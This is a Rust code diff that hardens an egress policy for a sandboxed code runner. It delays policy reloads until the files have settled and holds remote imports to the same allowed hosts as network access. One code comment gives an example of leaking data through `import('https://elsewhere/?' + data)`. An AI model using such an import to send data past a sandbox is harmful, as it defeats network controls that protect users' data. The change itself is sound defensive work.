@@ -51,6 +51,8 @@ pub fn load(path: &Path) -> Result<Policy, String> {
 /// A policy and the permissions it narrows `MCP_CONDUCTOR_RUN_ARGS` to.
 pub struct InForce {
     pub policy: Arc<Policy>,
+    /// The narrowed flags (what the `PERMISSIONS` global shows).
+    pub run_args: RunArgs,
     pub permissions: PermissionSet,
 }
 
@@ -63,14 +65,14 @@ pub struct Egress {
     /// Credential files named at startup: the only ones a reload may read (they are hidden from
     /// code from the start; a file named later would not be).
     startup_files: Vec<PathBuf>,
-    current: Mutex<(Stamp, Arc<InForce>)>,
+    /// The stamps the policy in force was read with ([`Egress::stamps`]), and the policy.
+    current: Mutex<(Vec<Stamp>, Arc<InForce>)>,
 }
 
 impl Egress {
     /// Reads the file: a missing or invalid file is a startup error. The policy file and the
     /// credential files it names join `owned` (code can never read them).
     pub fn new(path: PathBuf, run_args: &RunArgs, mut owned: ServerOwned) -> Result<Egress, String> {
-        let stamp = stamp(&path);
         let policy = load(&path)?;
         owned.add_with_projected_volume(path.clone());
         for file in &policy.credential_files {
@@ -81,18 +83,26 @@ impl Egress {
         if !run_args.allow.contains_key(&Kind::Net) {
             tracing::warn!("egress policy has no effect: MCP_CONDUCTOR_RUN_ARGS grants no net access");
         }
+        let stamps = std::iter::once(&path).chain(&in_force.policy.credential_files).map(|p| stamp(p)).collect();
         Ok(Egress {
             startup_files: in_force.policy.credential_files.clone(),
             path,
             run_args: run_args.clone(),
             owned,
-            current: Mutex::new((stamp, Arc::new(in_force))),
+            current: Mutex::new((stamps, Arc::new(in_force))),
         })
     }
 
     fn in_force(policy: Policy, run_args: &RunArgs, owned: &ServerOwned) -> Result<InForce, String> {
-        let permissions = PermissionSet::new(&narrow(run_args, &policy), owned).map_err(|e| e.to_string())?;
-        Ok(InForce { policy: Arc::new(policy), permissions })
+        let run_args = narrow(run_args, &policy);
+        let permissions = PermissionSet::new(&run_args, owned).map_err(|e| e.to_string())?;
+        Ok(InForce { policy: Arc::new(policy), run_args, permissions })
+    }
+
+    /// The stamps of the policy file and of the credential files it reads (a rotated Secret
+    /// is picked up without touching the policy).
+    fn stamps(&self, policy: &Policy) -> Vec<Stamp> {
+        std::iter::once(&self.path).chain(&policy.credential_files).map(|p| stamp(p)).collect()
     }
 
     pub fn path(&self) -> &Path {
@@ -107,12 +117,19 @@ impl Egress {
     /// The policy for the next execution: re-read if the file changed. A file that became
     /// invalid or unreadable keeps the last good policy (with an error in the log): a typo
     /// during an edit must not open the sandbox, nor close it.
+    ///
+    /// A file is taken only once it has settled: unchanged while it was read and last modified
+    /// at least [`SETTLE`] ago, so a file being written in place (`cat >`, an editor) is not
+    /// read half-way, where a cut before `methods:` would allow every method. Until then the
+    /// previous policy stays and the next execution looks again.
     pub fn current(&self) -> Arc<InForce> {
         let mut current = self.current.lock().unwrap_or_else(|p| p.into_inner());
-        let now = stamp(&self.path);
-        if now != current.0 {
-            current.0 = now;
+        let before = self.stamps(&current.1.policy);
+        if before != current.0 && settled(&before) {
             let reloaded = load(&self.path).and_then(|policy| {
+                if self.stamps(&current.1.policy) != before {
+                    return Err(RETRY.to_string());
+                }
                 if let Some(file) = policy.credential_files.iter().find(|f| !self.startup_files.contains(f)) {
                     return Err(format!(
                         "credential file {} was not named when the server started (restart the server to use it: \
@@ -125,29 +142,48 @@ impl Egress {
             match reloaded {
                 Ok(in_force) => {
                     tracing::info!(rules = in_force.policy.rules.len(), "egress policy re-read (changed): {}", self.path.display());
+                    current.0 = self.stamps(&in_force.policy);
                     current.1 = Arc::new(in_force);
                 }
-                Err(e) => tracing::error!("egress policy not reloaded, the previous one stays in effect: {e}"),
+                Err(e) if e == RETRY => {}
+                Err(e) => {
+                    current.0 = before;
+                    tracing::error!("egress policy not reloaded, the previous one stays in effect: {e}");
+                }
             }
         }
         current.1.clone()
     }
 }
 
-/// `args` with `allow-net` narrowed to what `policy` allows too (see the module docs). The
+/// How long a changed file must stay unchanged before it is read (see [`Egress::current`]).
+const SETTLE: std::time::Duration = std::time::Duration::from_secs(1);
+
+const RETRY: &str = "changed while it was read";
+
+fn settled(stamps: &[Stamp]) -> bool {
+    let now = std::time::SystemTime::now();
+    stamps.iter().flatten().all(|(modified, _, _)| now.duration_since(*modified).is_ok_and(|age| age >= SETTLE))
+}
+
+/// `args` with `allow-net` and `allow-import` narrowed to what `policy` allows too (see the module docs). The
 /// result never grants a host `args` did not.
 pub fn narrow(args: &RunArgs, policy: &Policy) -> RunArgs {
     let mut narrowed = args.clone();
     let wanted = policy.net_descriptors();
-    let allowed = match args.allow.get(&Kind::Net) {
-        None => return narrowed,
-        Some(Grant::All) => wanted,
-        Some(Grant::Only(granted)) => intersect(granted, &wanted),
-    };
-    if allowed.is_empty() {
-        narrowed.allow.remove(&Kind::Net);
-    } else {
-        narrowed.allow.insert(Kind::Net, Grant::Only(allowed));
+    // Remote imports are checked against `allow-import`, not `allow-net`: both are held to
+    // the policy's hosts, or `import('https://elsewhere/?' + data)` would be a way out.
+    for kind in [Kind::Net, Kind::Import] {
+        let allowed = match args.allow.get(&kind) {
+            None => continue,
+            Some(Grant::All) => wanted.clone(),
+            Some(Grant::Only(granted)) => intersect(granted, &wanted),
+        };
+        if allowed.is_empty() {
+            narrowed.allow.remove(&kind);
+        } else {
+            narrowed.allow.insert(kind, Grant::Only(allowed));
+        }
     }
     narrowed
 }
@@ -236,5 +272,9 @@ mod tests {
         assert_eq!(net(&narrow(&wide, &p)), Some(Grant::Only(vec!["api.github.com:443".into()])));
         let disjoint = RunArgs::parse("allow-net=other.org").unwrap();
         assert_eq!(net(&narrow(&disjoint, &p)), None, "nothing in common: no net at all");
+        let everything = RunArgs::parse("allow-all").unwrap();
+        let narrowed = narrow(&everything, &p);
+        assert_eq!(narrowed.allow.get(&Kind::Import), narrowed.allow.get(&Kind::Net), "imports too");
+        assert_eq!(net(&narrowed), Some(Grant::Only(vec!["api.github.com:443".into(), "*.example.com:443".into()])));
     }
 }
